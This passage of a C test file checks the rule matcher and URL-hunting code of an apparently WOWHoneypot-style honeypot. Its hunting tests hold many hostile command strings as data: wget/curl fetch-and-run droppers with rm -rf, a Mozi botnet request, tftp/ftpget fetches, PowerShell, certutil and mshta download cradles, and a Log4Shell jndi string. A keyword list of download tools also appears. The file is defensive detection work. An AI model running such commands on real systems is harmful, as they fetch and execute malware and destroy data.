	q = mkreq("GET", "/and?x=1", "X-A: 1\nX-B: 2\nX-C: 3", NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1007);
	q = mkreq("GET", "/and?x=2", "X-A: 1\nX-B: 2\nX-C: 3", NULL);
	assert_null(rules_match(r, &q));
	q = mkreq("GET", "/and?x=1", "X-A: 1\nX-C: 3\nX-B: 2", NULL);
	assert_null(rules_match(r, &q));
	q = mkreq("GET", "/and?x=1", "X-A: 1\nX-B: 2", NULL);
	assert_null(rules_match(r, &q));

	q = mkreq("GET", "/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", NULL, NULL);
	assert_null(rules_match(r, &q));
	q = mkreq("GET", "/aaaa", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1008);

	q = mkreq("GET", "/u/\xc3\xa9t\xc3\xa9", NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1009);

	big = malloc(1024 * 1024 + 1);
	assert_non_null(big);
	memcpy(big, "/d/", 3);
	for (i = 3; i < 3 + 2 * 20000; i += 2)
		memcpy(big + i, "ab", 2);
	memcpy(big + i, "c", 2);
	q = mkreq("GET", big, NULL, NULL);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1010);
	memset(big, 'x', 1024 * 1024);
	memcpy(big + 1024 * 1024 - 7, "needle7", 8);
	q = mkreq("POST", "/", NULL, big);
	resp = rules_match(r, &q);
	assert_non_null(resp);
	assert_int_equal(resp->id, 1011);
	big[1024 * 1024 - 1] = 'x';
	q = mkreq("POST", "/", NULL, big);
	assert_null(rules_match(r, &q));
	free(big);
	rules_free(r);
	rm("b.txt");
}

/* ---- the prefilter literal ---- */

static void
test_re_literal(void **state)
{
	static const struct {
		const char	*pat;
		const char	*lit;
	} t[] = {
		{ "/login", "/login" },
		{ "die\\('z!a'.'x'\\)", "die('z!a'" },
		{ "diZPqEAuJM.jsp$", "diZPqEAuJM" },
		{ "\\.php$", ".php" },
		{ "a\\|b", "a|b" },
		{ "a\\\\b", "a\\b" },
		{ "ab*c", "a" },		/* the quantified atom is dropped */
		{ "abc+def", "def" },
		{ "abc?", "ab" },
		{ "abc*?xy", "ab" },
		{ "a{2}bcd", "bcd" },
		{ "a{2,}bcd{1,3}", "bc" },
		{ "a(b|c)de", "de" },		/* an alternation inside a group is fine */
		{ "(ab)cd", "cd" },
		{ "(ab)?cd", "cd" },
		{ "[ab]cd", "cd" },
		{ "[]ab|(]cd", "cd" },		/* a leading ']' is a class member */
		{ "[^]x]yz", "yz" },
		{ "[\\]|]yz", "yz" },
		{ "\\d+abc\\s", "abc" },
		{ "\\bword\\b", "word" },
		{ "\xc3\xa9+abc", "abc" },	/* a UTF-8 character is one atom */
		{ "abc\xc3\xa9?", "abc" },
		{ "abcdefghijklmnopqrstuvwxyz", "abcdefghijklmnop" },	/* capped, still required */
		{ "abcdefghijklmnopqrstu?", "abcdefghijklmnop" },
		{ "abcdefghijklmnop?", "abcdefghijklmno" },
		/* no literal: alternation, options, verbs, escapes with arguments, odd syntax */
		{ "echo 2014 | md5sum", "" },
		{ "(?i)whoami", "" },
		{ "a(?i)bcd", "" },
		{ "(?:ab)cd", "" },
		{ "(?=x)abc", "" },
		{ "(*CR)abc", "" },
		{ "(*UCP)abc", "" },
		{ "\\Qa|b\\E", "" },
		{ "\\Qabc\\E", "" },
		{ "\\x41BCD", "" },
		{ "\\x{41}BCD", "" },
		{ "(a)\\1bcd", "" },
		{ "\\p{L}bcd", "" },
		{ "\\cAbcd", "" },
		{ "\\Nbcd", "" },
		{ "\\g1bcd", "" },
		{ "\\101bcd", "" },
		{ "[[:alpha:]]abc", "" },
		{ "x{abc}", "" },
		{ "x{,", "" },
		{ "abc)", "" },
		{ "(abc", "" },
		{ "[abc", "" },
		{ "abc\\", "" },
		{ ".*", "" },
		{ "a", "a" },
	};
	uint8_t	 lit[RULES_LIT_MAX];
	size_t	 i, n;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		memset(lit, 0, sizeof(lit));
		n = rules_re_literal(t[i].pat, strlen(t[i].pat), lit, sizeof(lit));
		if (n != strlen(t[i].lit) || memcmp(lit, t[i].lit, n) != 0)
			fail_msg("pattern \"%s\": literal \"%.*s\", expected \"%s\"", t[i].pat,
			    (int)n, lit, t[i].lit);
	}
}

/*
 * Every pattern against every subject: the search with its prefilter answers as a plain
 * pcre2_match does, and a subject a pattern matches always holds the pattern's literal.
 */
static void
test_re_prefilter_agrees(void **state)
{
	static const char *const pats[] = {
		"/login", "ab*c", "abc+def", "a{2}bcd", "a(b|c)de", "[]ab|(]cd", "\\bword\\b",
		"\xc3\xa9+abc", "echo 2014 | md5sum", "(?i)whoami", "a(?i)bcd", "\\Qa|b\\E",
		"\\x41BCD", "die\\('z!a'.'x'\\)", "\\.php$", "^/two$", "whoami", "X-A: 1\\nX-B",
		"abcdefghijklmnopqrstuvwxyz", "abcdefghijklmnop?", "\\d+abc\\s", "a\\|b", "aab",
	};
	static const struct {
		const char	*s;
		size_t		 len;
	} subj[] = {
#define S(x)	{ x, sizeof(x) - 1 }
		S(""), S("/"), S("/login"), S("/LOGIN"), S("/Login?x=1"), S("ac"), S("abbbc"),
		S("Abc"), S("abcdef"), S("abccdef"), S("abdef"), S("aabcd"), S("abcd"), S("abde"),
		S("acde"), S("]cd"), S("|cd"), S("(cd"), S("xcd"), S("a word!"), S("awordy"),
		S("\xc3\xa9\xc3\xa9" "abc"), S("\xc3" "abc"), S("\xe9" "abc"),
		S("echo 2014 "), S(" md5sum"), S("echo 2014 | md5sum"), S("WHOAMI"), S("WhoAmI"),
		S("aBCD"), S("abcd"), S("a|b"), S("ABCD"), S("die('z!a'.'x')"),
		S("die('z!a'X'x')"), S("x.php"), S("x.PHP"), S("/two"), S("/two\n"),
		S("\xff" "whoami" "\xfe"), S("who\xc3" "ami"), S("X-A: 1\nX-B: 2"),
		S("abcdefghijklmnopqrstuvwxyz"), S("abcdefghijklmnopqrstuvwxy"), S("abcdefghijklmno"),
		S("12abc "), S("abc "), S("1abc"), S("who\0ami whoami"), S("//login"), S("/logi"),
		S("x/login"), S("/login/"), S("aaab"), S("aab"), S("aa"), S("ab"), S("aaba"),
#undef S
	};
	pcre2_match_context	*mctx;
	pcre2_match_data	*md;
	pcre2_code		*plain;
	struct rules_re		 re;
	char			 msg[300];
	size_t			 i, j;
	int			 rc, got;

	assert_non_null(mctx = rules_re_context());
	assert_non_null(md = pcre2_match_data_create(1, NULL));
	for (i = 0; i < sizeof(pats) / sizeof(pats[0]); i++) {
		assert_int_equal(rules_re_compile(&re, pats[i], strlen(pats[i]), msg, sizeof(msg)), 0);
		plain = pcre2_compile((PCRE2_SPTR)pats[i], strlen(pats[i]),
		    PCRE2_UTF | PCRE2_MATCH_INVALID_UTF | PCRE2_UCP, &rc, &(PCRE2_SIZE){ 0 },
		    NULL);
		assert_non_null(plain);
		(void)pcre2_jit_compile(plain, PCRE2_JIT_COMPLETE);	/* the same engine */
		for (j = 0; j < sizeof(subj) / sizeof(subj[0]); j++) {
			rc = pcre2_match(plain, (PCRE2_SPTR)subj[j].s, subj[j].len, 0, 0, md, mctx);
			got = rules_re_search(&re, mctx, md, (const uint8_t *)subj[j].s,
			    subj[j].len, 0, NULL, NULL);
			if ((rc >= 0) != got)
				fail_msg("pattern \"%s\" on subject %zu: pcre2 %d, search %d",
				    pats[i], j, rc, got);
			if (rc >= 0 && !rules_re_may_match(&re, (const uint8_t *)subj[j].s,
			    subj[j].len))
				fail_msg("pattern \"%s\" matches subject %zu without its literal",
				    pats[i], j);
		}
		pcre2_code_free(plain);
		rules_re_free(&re);
	}
	pcre2_match_data_free(md);
	pcre2_match_context_free(mctx);
}

/* ---- hunting ---- */

struct found {
	size_t	 n;
	char	 tool[80][32];
	char	 url[80][2100];
};

static void
collect(void *arg, const char *tool, const char *url, size_t len)
{
	struct found	*f = arg;

	assert_true(len <= 2048);
	assert_int_equal(url[len], '\0');
	assert_true(f->n < 80);
	snprintf(f->tool[f->n], sizeof(f->tool[0]), "%s", tool);
	memcpy(f->url[f->n], url, len + 1);
	f->n++;
}

/* Hunts text with the shipped rules and checks the exact (tool, url) list, in order. */
static void
hunt_expect(const struct rules *r, const char *text, ...)
{
	static struct found	 f;
	va_list			 ap;
	const char		*tool, *url;
	size_t			 n = 0, ret;

	memset(&f, 0, sizeof(f));
	ret = rules_hunt(r, (const uint8_t *)text, strlen(text), collect, &f);
	assert_int_equal(ret, f.n);
	va_start(ap, text);
	while ((tool = va_arg(ap, const char *)) != NULL) {
		url = va_arg(ap, const char *);
		if (n >= f.n)
			fail_msg("%s: missing %s %s", text, tool, url);
		if (strcmp(f.tool[n], tool) != 0 || strcmp(f.url[n], url) != 0)
			fail_msg("%s: #%zu is %s %s, want %s %s", text, n, f.tool[n], f.url[n],
			    tool, url);
		n++;
	}
	va_end(ap);
	if (n != f.n)
		fail_msg("%s: %zu URLs, want %zu (extra: %s %s)", text, f.n, n, f.tool[n],
		    f.url[n]);
}

static void
test_hunt_shell(void **state)
{
	hunt_expect(art, "GET /x?wget+http://1.2.3.4/x.sh;chmod+777 HTTP/1.1",
	    "wget", "http://1.2.3.4/x.sh", NULL);
	hunt_expect(NULL, "wget+http://1.2.3.4/x.sh;chmod+777",
	    "wget", "http://1.2.3.4/x.sh", NULL);
	hunt_expect(art, "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.10/Mozi.m;chmod+777+"
	    "Mozi.m;/tmp/Mozi.m+jaws HTTP/1.1\nHost: 198.51.100.7:80\nUser-Agent: Hello, world\n"
	    "Connection: keep-alive\n\n", "wget", "http://192.0.2.10/Mozi.m", NULL);
	/* '+' as an encoded space before options, paths and commands ends the URL ... */
	hunt_expect(art, "wget+http://192.0.2.41/x+-O+/tmp/x", "wget", "http://192.0.2.41/x",
	    NULL);
	hunt_expect(art, "wget+http://192.0.2.42/x.sh+sh", "wget", "http://192.0.2.42/x.sh", NULL);
	hunt_expect(art, "curl+http://192.0.2.43/y+2>/dev/null", "curl", "http://192.0.2.43/y",
	    NULL);
	hunt_expect(art, "curl http://192.0.2.44/z+", "curl", "http://192.0.2.44/z", NULL);
	/* ... but stays inside a query. */
	hunt_expect(art, "curl+http://192.0.2.40/s?q=a+b&c=d+e", "curl",
	    "http://192.0.2.40/s?q=a+b&c=d+e", NULL);
	/* ? & = % ~ are kept (%25 decodes once to %). */
	hunt_expect(art, "curl \"http://192.0.2.30/~u/a.php?x=1&y=%2541\"", "curl",
	    "http://192.0.2.30/~u/a.php?x=1&y=%41", NULL);
	/* Stops. */
	hunt_expect(art, "wget http://x.example/a.sh&&sh a.sh", "wget", "http://x.example/a.sh",
	    NULL);
	hunt_expect(art, "wget http://x.example/b.sh & sh b.sh", "wget", "http://x.example/b.sh",
	    NULL);
	hunt_expect(art, "echo $(curl -s http://x.example/c|sh)", "curl", "http://x.example/c",
	    NULL);
	hunt_expect(art, "`wget -qO- http://x.example/d`", "wget", "http://x.example/d", NULL);
	hunt_expect(art, "wget http://x.example/e>/dev/null", "wget", "http://x.example/e", NULL);
	hunt_expect(art, "wget${IFS}http://x.example/f${IFS}-O${IFS}g", "wget",
	    "http://x.example/f", NULL);
	hunt_expect(art, "wget 'http://x.example/g'", "wget", "http://x.example/g", NULL);
	hunt_expect(art, "curl http://x.example/h\\", "curl", "http://x.example/h", NULL);
	hunt_expect(art, "{curl,http://x.example/i}", "curl", "http://x.example/i", NULL);
	/* Scheme-less wget/curl arguments. */
	hunt_expect(art, "cd /tmp; wget 192.0.2.50/bins.sh; sh bins.sh", "wget",
	    "http://192.0.2.50/bins.sh", NULL);
	hunt_expect(art, "cd /tmp || cd /var/run; wget -O a bad.example.com/x.arm7 && chmod +x a",
	    "wget", "http://bad.example.com/x.arm7", NULL);
	hunt_expect(art, "curl -o x.sh -A Mozilla/5.0 192.0.2.51:8080/x.sh", "curl",
	    "http://192.0.2.51:8080/x.sh", NULL);
	hunt_expect(art, "wget -O x.sh", NULL);
	hunt_expect(art, "wget+192.0.2.52:81+-O-|sh", "wget", "http://192.0.2.52:81", NULL);
	hunt_expect(art, "wget 192.0.2.53:x/y example.com", NULL);
	hunt_expect(art, "User-Agent: curl/7.68.0\nAccept: */*", NULL);
}

static void
test_hunt_tftp_ftpget(void **state)
{
	hunt_expect(art, "cd /tmp; tftp -g -r x.sh 192.0.2.3; sh x.sh", "tftp",
	    "tftp://192.0.2.3/x.sh", NULL);
	hunt_expect(art, "tftp+-r+bins.sh+-g+198.51.100.3;sh+bins.sh", "tftp",
	    "tftp://198.51.100.3/bins.sh", NULL);
	hunt_expect(art, "tftp -gr /m.arm 192.0.2.4 69 2>/dev/null", "tftp",
	    "tftp://192.0.2.4:69/m.arm", NULL);
	hunt_expect(art, "tftp 192.0.2.5 -c get t.sh", "tftp", "tftp://192.0.2.5/t.sh", NULL);
	hunt_expect(art, "tftp -g -l local.sh 192.0.2.6", "tftp", "tftp://192.0.2.6/local.sh",
	    NULL);
	hunt_expect(art, "tftp -p -l secrets 192.0.2.7", NULL);	/* an upload */
	hunt_expect(art, "tftp -g 192.0.2.8", NULL);			/* no file */
	hunt_expect(art, "ftpget -v -u anonymous -p anonymous -P 21 192.0.2.9 x.sh r.sh;sh x.sh",
	    "ftpget", "ftp://192.0.2.9:21/r.sh", NULL);
	hunt_expect(art, "busybox ftpget 192.0.2.10 l.sh r.sh", "ftpget",
	    "ftp://192.0.2.10/r.sh", NULL);
	hunt_expect(art, "ftpget 192.0.2.11 only.sh", "ftpget", "ftp://192.0.2.11/only.sh", NULL);
	hunt_expect(art, "ftpget -v 192.0.2.12", NULL);
}

static void
test_hunt_windows(void **state)
{
	hunt_expect(art, "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString("
	    "'http://192.0.2.7/a.ps1')\"", "powershell", "http://192.0.2.7/a.ps1", NULL);
	hunt_expect(art, "cmd /c \"$c=New-Object System.Net.WebClient;$c.DownloadFile("
	    "'http://192.0.2.8/a.exe','C:\\a.exe')\"", "powershell", "http://192.0.2.8/a.exe",
	    NULL);
	hunt_expect(art, "iwr -Uri https://192.0.2.9/p.exe -OutFile p.exe", "powershell",
	    "https://192.0.2.9/p.exe", NULL);
	hunt_expect(art, "certutil.exe -urlcache -split -f http://192.0.2.10/c.exe c.exe",
	    "certutil", "http://192.0.2.10/c.exe", NULL);
	hunt_expect(art, "bitsadmin /transfer j http://192.0.2.11/b.exe C:\\b.exe", "bitsadmin",
	    "http://192.0.2.11/b.exe", NULL);
	hunt_expect(art, "mshta http://192.0.2.12/x.hta", "mshta", "http://192.0.2.12/x.hta",
	    NULL);
	hunt_expect(art, "lwp-download http://192.0.2.13/l /tmp/l", "lwp-download",
	    "http://192.0.2.13/l", NULL);
	hunt_expect(art, "new java.net.URL(\"http://192.0.2.14/j.jar\")", "java",
	    "http://192.0.2.14/j.jar", NULL);
	hunt_expect(art, "urllib.request.urlopen('http://192.0.2.15/u.py')", "urlopen",
	    "http://192.0.2.15/u.py", NULL);
	hunt_expect(art, "X-Api-Version: ${jndi:ldap://192.0.2.16:1389/a}", "jndi",
	    "ldap://192.0.2.16:1389/a", NULL);
}

static void
test_hunt_many(void **state)
{
	char		*big;
	size_t		 i, len;
	static struct found f;

	/* Two URLs on one line are two reports, each credited to its own command. */
	hunt_expect(art, "wget http://192.0.2.12/a; curl -O https://192.0.2.13/b",
	    "wget", "http://192.0.2.12/a", "curl", "https://192.0.2.13/b", NULL);
	hunt_expect(art, "curl -o a http://192.0.2.14/a -o b http://192.0.2.14/b",
	    "curl", "http://192.0.2.14/a", "curl", "http://192.0.2.14/b", NULL);
	/* Dedupe within one call. */
	hunt_expect(art, "wget http://192.0.2.20/x; wget http://192.0.2.20/x\nwget+http://192.0.2.20/x",
	    "wget", "http://192.0.2.20/x", NULL);
	/* Percent-encoded, decoded once. */
	hunt_expect(art, "GET /?c=wget%20http%3A%2F%2F192.0.2.21%2Fx.sh%3Fa%3D1%26b%3D2%3Bsh HTTP/1.1",
	    "wget", "http://192.0.2.21/x.sh?a=1&b=2", NULL);
	hunt_expect(art, "c=wget%2520http%253A%252F%252F192.0.2.22", NULL);
	/* No command: not a download. */
	hunt_expect(art, "GET / HTTP/1.1\nReferer: http://192.0.2.70/\nHost: a\n\n", NULL);
	hunt_expect(art, "GET http://192.0.2.71/ HTTP/1.1\nHost: 192.0.2.71\n\n", NULL);
	/* huntrules.txt only: tool "url" (Wscript is in huntrules.txt, not a command keyword). */
	hunt_expect(art, "Wscript.Shell run http://192.0.2.72/w.vbs?x=1", "url",
	    "http://192.0.2.72/w.vbs?x=1", NULL);
	hunt_expect(NULL, "Wscript.Shell run http://192.0.2.72/w.vbs?x=1", NULL);
	/* WOWHoneypot's greedy ".+" also catches a later URL of the line: reported as "url". */
	hunt_expect(art, "wget http://192.0.2.73/a; echo http://192.0.2.74/b",
	    "wget", "http://192.0.2.73/a", "url", "http://192.0.2.74/b", NULL);
	/* Nothing at all. */
	hunt_expect(art, "", NULL);
	hunt_expect(art, "%", NULL);
	hunt_expect(art, "wget http://", NULL);
	hunt_expect(art, "wget http:///x", NULL);

	/* Cap: 64 URLs. */
	big = malloc(100 * 64);
	assert_non_null(big);
	for (i = 0, len = 0; i < 100; i++)
		len += (size_t)snprintf(big + len, 64, "wget http://192.0.2.1/%zu;", i);
	memset(&f, 0, sizeof(f));
	assert_int_equal(rules_hunt(art, (uint8_t *)big, len, collect, &f), 64);
	assert_string_equal(f.url[63], "http://192.0.2.1/63");
	free(big);
	/* Cap: 2048 bytes per URL. */
	big = malloc(5000);
	assert_non_null(big);
	memcpy(big, "curl http://192.0.2.1/", 22);
	memset(big + 22, 'a', 4000);
	memset(&f, 0, sizeof(f));
	assert_int_equal(rules_hunt(art, (uint8_t *)big, 4022, collect, &f), 1);
	assert_int_equal(strlen(f.url[0]), 2048);
	free(big);
}

/*
 * Every command keyword is found in any case (keyword_at passes a word on only when a keyword
 * starts with its first two letters: a word it wrongly turned away would lose its URL here),
 * with no huntrules.txt patterns to find the URL instead.
 */
static void
test_hunt_keyword_cases(void **state)
{
	static const char *const kw[][2] = {
		{ "wget", "wget" }, { "curl", "curl" }, { "fetch", "fetch" },
		{ "aria2c", "aria2c" }, { "powershell", "powershell" }, { "pwsh", "powershell" },
		{ "Invoke-WebRequest", "powershell" }, { "Invoke-RestMethod", "powershell" },
		{ "iwr", "powershell" }, { "irm", "powershell" },
		{ "DownloadString", "powershell" }, { "DownloadFile", "powershell" },
		{ "DownloadData", "powershell" }, { "Net.WebClient", "powershell" },
		{ "Start-BitsTransfer", "powershell" }, { "certutil", "certutil" },
		{ "bitsadmin", "bitsadmin" }, { "mshta", "mshta" }, { "msiexec", "msiexec" },
		{ "regsvr32", "regsvr32" }, { "explorer", "explorer" },
		{ "lwp-download", "lwp-download" }, { "getstore", "getstore" },
		{ "java.net.URL", "java" }, { "urlopen", "urlopen" },
		{ "urlretrieve", "urlretrieve" }, { "XMLHTTP", "xmlhttp" },
		{ "objXMLHTTP", "xmlhttp" }, { "ServerXMLHTTP", "xmlhttp" }, { "jndi", "jndi" },
	};
	char	 text[128], word[64];
	size_t	 k, j, v;

	(void)state;
	for (k = 0; k < sizeof(kw) / sizeof(kw[0]); k++)
		for (v = 0; v < 4; v++) {
			/* as listed, lower case, upper case, alternating */
			for (j = 0; kw[k][0][j] != '\0'; j++) {
				char	 c = kw[k][0][j];

				word[j] = v == 0 ? c : v == 1 ? (char)tolower((unsigned char)c) :
				    v == 2 || j % 2 ? (char)toupper((unsigned char)c) :
				    (char)tolower((unsigned char)c);
			}
			word[j] = '\0';
			/* At the very start, and after a separator at the end of a request line. */
			snprintf(text, sizeof(text), "%s http://192.0.2.80/k", word);
			hunt_expect(NULL, text, kw[k][1], "http://192.0.2.80/k", NULL);
			snprintf(text, sizeof(text), "GET /?a=1;%s+http://192.0.2.81/k", word);
			hunt_expect(NULL, text, kw[k][1], "http://192.0.2.81/k", NULL);
		}
	/* A keyword split by percent-encoding is whole once decoded. */
	hunt_expect(NULL, "w%67et http://192.0.2.82/a", "wget", "http://192.0.2.82/a", NULL);
	hunt_expect(NULL, "%57GET http://192.0.2.83/a", "wget", "http://192.0.2.83/a", NULL);
	hunt_expect(NULL, "c%55rl+http://192.0.2.84/a", "curl", "http://192.0.2.84/a", NULL);
	/* Not whole words: no command. */
	hunt_expect(NULL, "xwget http://192.0.2.85/a", NULL);
	hunt_expect(NULL, "wgetx http://192.0.2.85/a", NULL);
	hunt_expect(NULL, "w-get http://192.0.2.85/a", NULL);
	/* A keyword ends tftp's arguments: CURL is the next command, 69 is not tftp's port. */
	hunt_expect(NULL, "tftp -g -r x 192.0.2.86 CURL 69", "tftp", "tftp://192.0.2.86/x", NULL);
	hunt_expect(NULL, "tftp -g -r x 192.0.2.86 69", "tftp", "tftp://192.0.2.86:69/x", NULL);
}

/* Keywords cut by the end of the text: nothing read past it (ASan), nothing reported. */
static void
test_hunt_text_end(void **state)
{
	static const char *const texts[] = {
		"w", "wg", "wge", "wget", "x;w", "x;wg", "x;wget", "I", "iw", "iwr",
		"DownloadStrin", "wget h", "curl http:", "tftp -g -r x", "%77", "%7", "w%6",
	};
	static struct found	 f;
	uint8_t			*p;
	size_t			 k, n;

	(void)state;
	for (k = 0; k < sizeof(texts) / sizeof(texts[0]); k++) {
		n = strlen(texts[k]);
		p = malloc(n);		/* exactly n bytes, no NUL after them */
		assert_non_null(p);
		memcpy(p, texts[k], n);
		memset(&f, 0, sizeof(f));
		assert_int_equal(rules_hunt(art, p, n, collect, &f), 0);
		free(p);
	}
}

static void
test_hunt_local_rules(void **state)
{
	struct rules	*r;
	char		 err[512];

	if (rules_load(LOCAL, &r, err, sizeof(err)) == -1)
		fail_msg("%s", err);
	hunt_expect(r, "X: evilbot get http://192.0.2.90/e.bin", "url", "http://192.0.2.90/e.bin",
	    NULL);
	hunt_expect(r, "X: Wscript get http://192.0.2.90/e.bin", NULL);
	rules_free(r);
}

static void
test_hunt_hostile(void **state)
{
	static const uint8_t	 bin[] = "\x00wget\x00http://192.0.2.1/a\xff\xfe wget http://192.0.2.2/b"
	    "\xc3\x28;";
	static struct found	 f;
	uint8_t			*big;
	size_t			 n = 1024 * 1024;
	clock_t			 t0;

	/* NUL ends a command; WOWHoneypot's ".+" crosses it, but not invalid UTF-8. */
	memset(&f, 0, sizeof(f));
	assert_int_equal(rules_hunt(art, bin, sizeof(bin) - 1, collect, &f), 2);
	assert_string_equal(f.tool[0], "wget");
	assert_string_equal(f.url[0], "http://192.0.2.2/b");
	assert_string_equal(f.tool[1], "url");
	assert_string_equal(f.url[1], "http://192.0.2.1/a");
	/* 1 MiB of "wget wget ..." on one line must not take long (regex limits). */
	big = malloc(n);
	assert_non_null(big);
	for (size_t i = 0; i < n; i++)
		big[i] = (uint8_t)"wget "[i % 5];
	t0 = clock();
	memset(&f, 0, sizeof(f));
	assert_int_equal(rules_hunt(art, big, n, collect, &f), 0);
	assert_true((double)(clock() - t0) / CLOCKS_PER_SEC < 10.0);
	free(big);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_load_counts),
		cmocka_unit_test(test_load_defaults),
		cmocka_unit_test(test_each_rule),
		cmocka_unit_test(test_headers_order),
		cmocka_unit_test(test_no_match),
		cmocka_unit_test(test_body_rules_need_body),
		cmocka_unit_test(test_header_block),
		cmocka_unit_test(test_invalid_utf8_and_nul),
		cmocka_unit_test(test_local_override),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_missing_files),
		cmocka_unit_test(test_loader_semantics),
		cmocka_unit_test(test_re_literal),
		cmocka_unit_test(test_re_prefilter_agrees),
		cmocka_unit_test(test_hunt_shell),
		cmocka_unit_test(test_hunt_tftp_ftpget),
		cmocka_unit_test(test_hunt_windows),
		cmocka_unit_test(test_hunt_many),
		cmocka_unit_test(test_hunt_keyword_cases),
		cmocka_unit_test(test_hunt_text_end),
		cmocka_unit_test(test_hunt_local_rules),
		cmocka_unit_test(test_hunt_hostile),
	};
	int	 rc;

	rc = cmocka_run_group_tests_name("rules", tests, group_setup, group_teardown);
	return rc;
}
